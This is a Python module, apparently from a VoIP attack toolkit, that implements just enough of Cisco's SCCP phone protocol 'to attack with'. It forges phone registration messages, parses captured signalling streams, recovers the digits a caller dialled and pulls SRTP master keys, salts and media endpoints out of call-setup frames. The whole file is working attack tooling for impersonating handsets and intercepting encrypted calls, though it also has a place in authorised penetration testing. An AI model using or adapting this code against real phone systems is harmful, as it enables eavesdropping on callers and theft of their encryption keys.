# SPDX-License-Identifier: Apache-2.0
"""Just enough SCCP to attack with, and to read a call's digits and media keys off an opened stream."""
import socket
import struct
from collections import namedtuple

KEEPALIVE, REGISTER, KEYPAD_BUTTON, ALARM = 0x0000, 0x0001, 0x0003, 0x0020
REGISTER_ACK, START_MEDIA, REGISTER_REJECT = 0x0081, 0x008A, 0x009D
OPEN_RECEIVE, CAPABILITIES_REQ = 0x0105, 0x009B

Frame = namedtuple("Frame", "version id body")
Key = namedtuple("Key", "master salt remote")  # remote: (address, port), or None for a receiver


def frame(message, body=b"", version=0):
    body += bytes(-len(body) % 4)
    return struct.pack("<III", len(body) + 4, version, message) + body


def frames(stream):
    """The whole frames of a stream of bytes."""
    found = []
    while len(stream) >= 12:
        length, version, message = struct.unpack("<III", stream[:12])
        if length < 4 or length > 8192:
            raise ValueError(f"no SCCP: a frame of {length} bytes")
        if len(stream) < length + 8:
            break
        found.append(Frame(version, message, stream[12:length + 8]))
        stream = stream[length + 8:]
    return found


def register(name, device_type=404, version=22):
    """A Register as a phone sends it; 404 is a 7962."""
    body = struct.pack("<16sII4sIII", name.encode(), 0, 1, socket.inet_aton("127.0.0.1"),
                       device_type, 5, 0)
    body += struct.pack("<BBBB", version, 0x00, 0x72, 0x85)
    return frame(REGISTER, body + bytes(128))


def reject_text(body):
    return body.split(b"\0")[0].decode("latin-1")


def digits(found):
    """What was dialled, from KeypadButton messages."""
    names = "0123456789ABCD*#+"
    return "".join(names[struct.unpack("<I", f.body[:4])[0]] for f in found
                   if f.id == KEYPAD_BUTTON)


def media_keys(found):
    """The SRTP keys that a server hands out in these frames, with the far end for senders."""
    keys = []
    for f in found:
        if f.id == OPEN_RECEIVE:
            at, remote = 28, None
        elif f.id == START_MEDIA and f.version >= 17:
            at = 60
            remote = socket.inet_ntoa(f.body[12:16]), struct.unpack("<I", f.body[28:32])[0]
        elif f.id == START_MEDIA:
            at = 44
            remote = socket.inet_ntoa(f.body[8:12]), struct.unpack("<I", f.body[12:16])[0]
        else:
            continue
        algorithm, key, salt = struct.unpack("<IHH", f.body[at:at + 8])
        if algorithm != 0:
            keys.append(Key(f.body[at + 8:at + 8 + key], f.body[at + 24:at + 24 + salt], remote))
    return keys
